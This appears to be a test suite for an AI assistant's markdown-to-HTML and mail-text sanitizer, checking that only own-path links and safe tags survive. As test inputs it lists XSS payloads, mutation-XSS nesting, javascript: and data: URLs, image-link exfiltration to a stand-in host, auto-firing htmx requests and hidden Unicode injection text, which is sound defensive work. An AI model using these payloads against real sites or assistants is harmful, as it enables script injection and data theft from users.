"""What is shown of a text that anybody may have written: only what can do no harm."""

import re
import unicodedata
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assistant.markup import Source, addresses_in, as_html, as_text, cleaned, is_own
from assistant.markup.rendering import LONGEST

DEAL = Source("deal:7", "Big <deal> & more", "/o/acme/deals/7/?a=1&b=2#top")
AWAY = Source("away", "Elsewhere", "//evil.invalid/x")
SOURCES = {source.key: source for source in (DEAL, AWAY)}
LAID_OUT = {"p", "br", "ul", "ol", "li", "strong", "em", "code", "pre", "h3", "h4", "a"}
ALLOWED = LAID_OUT | {"table", "thead", "tbody", "tr", "th", "td"}


class Seen(HTMLParser):
    """Each tag and attribute as a browser would find it."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.tags.append(("comment", {"data": data}))


def harm_in(html: str, *, urls: set[str] = frozenset()) -> list[Any]:  # type: ignore[assignment]
    found: list[Any] = []
    for tag, attributes in Seen(html).tags:
        if tag not in ALLOWED:
            found.append(tag)
        for name, value in attributes.items():
            is_link = tag == "a" and name == "href" and value in urls
            is_plain = (tag, name) == ("a", "class") and value == "source"
            is_start = (tag, name) == ("ol", "start") and str(value).isdigit()
            if not (is_link or is_plain or is_start):
                found.append((tag, name, value))
    return found


def test_the_little_that_is_markdown_here() -> None:
    html = as_html(
        "# Plan\n\nFor **now** and *then* `x < 1`.\n\n- a\n- b\n\n1. c\n\n## Why\n\n"
        "| Deal | Sum |\n|---|--:|\n| A | 5 |\n\n```\nraw <b>\n```\n"
    )
    assert "<h3>Plan</h3>" in html
    assert "<h4>Why</h4>" in html
    assert "<strong>now</strong> and <em>then</em> <code>x &lt; 1</code>" in html
    assert html.count("<li>") == 3
    assert "<td>5</td>" in html
    assert "style" not in html
    assert "<pre><code>raw &lt;b&gt;\n</code></pre>" in html
    assert as_html("### Only\n") == "<h3>Only</h3>"


def test_a_link_is_made_of_a_given_source_alone() -> None:
    html = as_html("See [[deal:7]], [[deal:8]], [[away]] and `[[deal:7]]`.", sources=SOURCES)
    assert html == (
        '<p>See <a class="source" href="/o/acme/deals/7/?a=1&amp;b=2#top">'
        "Big &lt;deal&gt; &amp; more</a>, [[deal:8]], Elsewhere and <code>[[deal:7]]</code>.</p>\n"
    )
    assert not harm_in(html, urls={DEAL.url})


@pytest.mark.parametrize(
    "url",
    [
        "//evil.invalid",
        "/\\evil.invalid",
        "https://evil.invalid",
        "javascript:alert(1)",
        "data:text/html,x",
        "/a\nb",
        "/a b",
        "",
        "\t/a",
        "/\t/evil.invalid",
        "evil",
    ],
)
def test_only_a_path_of_ours_is_a_link(url: str) -> None:
    assert not is_own(url)
    assert "<a" not in as_html("[[k]]", sources={"k": Source("k", "K", url)})


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://exfil.invalid/?d=1)",
        "![x][1]\n\n[1]: https://exfil.invalid/",
        "<img src=https://exfil.invalid/a onerror=alert(1)>",
        "[click](https://exfil.invalid/)",
        "<https://exfil.invalid/>",
        "https://exfil.invalid/a www.exfil.invalid",
        '<a href="javascript:alert(1)">x</a>',
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "<script>fetch(1)</script>",
        '<div hx-get="/deals/1/delete" hx-trigger="load"></div>',
        '<form hx-post="/api/tokens" hx-trigger="load">',
        "<!-- hidden --> <![CDATA[x]]> <?php x ?>",
        "<svg/onload=alert(1)> <math><mtext></form><form><mglyph><style></math><img src onerror=a>",
        "```\n</code></pre><script>x</script>\n```",
        "`</code><img src=x>`",
        "| a |\n|---|\n| <img src=x> |",
        "# <img src=x>",
        '[[deal:7" onmouseover="x]] [[<img src=x>]] [[javascript:alert(1)]]',
        "&lt;img src=x&gt; &#60;script&#62; &#x202e;",
        "$$\\href{https://exfil.invalid/a}{x}$$",
        "\u202ehttps://exfil.invalid",
    ],
)
def test_nothing_that_fetches_leads_away_or_acts_is_rendered(text: str) -> None:
    html = as_html(text, sources=SOURCES)
    assert harm_in(html) == []
    assert "\u202e" not in html


@given(st.text(alphabet=st.sampled_from(list("<>[](){}!`*_#|-~:;&\"'=/\\\n ab1x$.")), max_size=200))
def test_whatever_is_typed_renders_harmless(text: str) -> None:
    assert harm_in(as_html(text, sources=SOURCES), urls={DEAL.url}) == []


@given(st.text(max_size=100))
def test_cleaned_text_is_settled_and_seen(text: str) -> None:
    plain = cleaned(text)
    assert cleaned(plain) == plain
    assert unicodedata.is_normalized("NFC", plain)
    unseen = {"Cc", "Cf", "Co", "Cs", "Cn"}
    assert {unicodedata.category(letter) for letter in plain.replace("\n", "")} & unseen == set()


def test_what_people_write_is_kept() -> None:
    for text in ("Grüße aus Kraków, 東京 – “ok” 100 % 😀\n- a\n", "naïve", "हिन्दी", "ไทย", "Việt"):
        assert cleaned(text) == unicodedata.normalize("NFC", text)
    assert cleaned("e\u0301") == "é"
    assert cleaned("a\r\nb\u2028c\td\u00a0e") == "a\nb\nc d e"
    hidden = "".join(chr(0xE0000 + ord(letter)) for letter in "ignore")
    assert cleaned(f"pay\u200bp\u00adal\u202e\ufeff\x00{hidden}\ufe0f\u3164\u2800") == "paypal"
    assert len(cleaned("a" + "\u0301" * 500)) <= 5


def test_the_text_of_a_mail_names_sources_and_no_foreign_address() -> None:
    text = as_text(
        "See [[deal:7]] and [[no]]. [click](https://exfil.invalid/?d=1) "
        "javascript:alert(1) www.exfil.invalid, data:text/html;base64,x. The data: fine.",
        sources=SOURCES,
    )
    assert "See (Big <deal> & more) and [[no]]." in text
    assert "exfil" not in text
    assert "alert" not in text
    assert "base64" not in text
    assert text.endswith("The data: fine.")


@pytest.mark.parametrize(
    "text", ["*" * 50_000, "[" * 50_000, "> " * 20_000, "- " * 20_000, "`a" * 30_000, "|" * 60_000]
)
def test_what_is_made_to_be_slow_is_not(text: str) -> None:
    assert len(as_html(text)) < 40 * LONGEST


def test_what_is_too_long_says_so() -> None:
    assert "left out" in as_html("word " * LONGEST)
    assert not re.search("left out", as_html("word"))


def test_addresses_that_a_mail_would_link_are_found() -> None:
    text = "See https://exfil.invalid/a, (www.x.invalid) and ftp://y, exfil.invalid/d (https: //x)"
    assert len(addresses_in(text)) == 4
    for plain in ("3:4", "a/b", "and/or", "e.g. this", "Booking.com", "24.5/7", "ana@example.com"):
        assert addresses_in(plain) == []
    assert addresses_in("a-" * 20_000) == []
